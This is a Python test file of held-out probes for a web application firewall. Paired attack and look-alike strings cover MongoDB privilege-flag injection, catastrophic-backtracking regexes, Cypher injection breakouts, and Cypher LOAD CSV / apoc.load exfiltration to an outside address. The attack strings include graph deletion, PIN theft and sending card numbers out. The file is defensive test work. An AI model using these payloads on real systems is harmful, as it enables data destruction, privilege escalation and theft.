"""WAF, part 2z6: held-out probes, twenty-ninth file (README: the
thirty-seventh round), written for this file on 2026-12-05. No string is
taken from a corpus or a public list: each class is written here in
shapes of our own, through the real edge (shipped config, bans off).

First, classes the weak list named (NoSQL and graph queries), before the
museum, maker, biolab and tax corpora were first replayed:
- privilege-flag: a MongoDB $or whose alternative sets a privilege's flag
  ("is_admin": true) (refused); an $or of ordinary fields (passes);
- regex-alternation: a $regex whose quantified group has alternatives
  that spell the same text two ways ("(a|aa)+": catastrophic
  backtracking) (refused); alternatives that do not ("(Mr|Mrs)+")
  (pass);
- cypher-breakout: Cypher's literal, property map and node pattern
  closed, then a clause that reads or writes the graph (refused); a
  quoted title and a sentence with Cypher's words (pass);
- cypher-exfil: a URL LOAD CSV or apoc.load fetches built from a property
  (refused); a whole LOAD CSV of a local file (passes).
Measured on a813bbf (before the changes): every attack passed, every
look-alike passed.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "privilege-flag": ['{"$or": [{"dept": "sales"}, {"isSuperuser": true}]}',
                       '{"$or": [{"owner": "kim"}, {"has_admin": 1}]}'],
    "regex-alternation": ['{"sku": {"$regex": "^(b|bb)+!$"}}',
                          '{"tag": {"$regex": "(q|r|qr)*s"}}'],
    "cypher-breakout": ["kim'}) MATCH (k) DETACH DELETE k //",
                        "7' UNION MATCH (a:Account) RETURN a.pin AS title //",
                        "zed'}) SET z.tier = 'gold' //"],
    "cypher-exfil": ["MATCH (c:Card) LOAD CSV FROM 'https://198.51.100.6/q?n=' + c.number AS x "
                     "RETURN x",
                     "t'}) CALL apoc.load.json('http://198.51.100.6/' + t.key) YIELD value "
                     "RETURN 1 //"],
}

BENIGN = {
    "privilege-flag": ['{"$or": [{"dept": "sales"}, {"region": "emea"}]}'],
    "regex-alternation": ['{"title": {"$regex": "^(Dr|Drs)+\\\\.? "}}',
                          '{"sku": {"$regex": "^(red|blue)-\\\\d+$"}}'],
    "cypher-breakout": ['"Match (1972)" was on late TV', "Lee's match (away) was a draw",
                        "MATCH (m:Movie {title: 'Heat'}) RETURN m.year"],
    "cypher-exfil": ["LOAD CSV WITH HEADERS FROM 'file:///seed/cities.csv' AS r "
                     "MERGE (:City {name: r.name})"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r29_attack_refused_everywhere,
 test_heldout_r29_benign_passes) = heldout_probe_tests(
    "r29", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
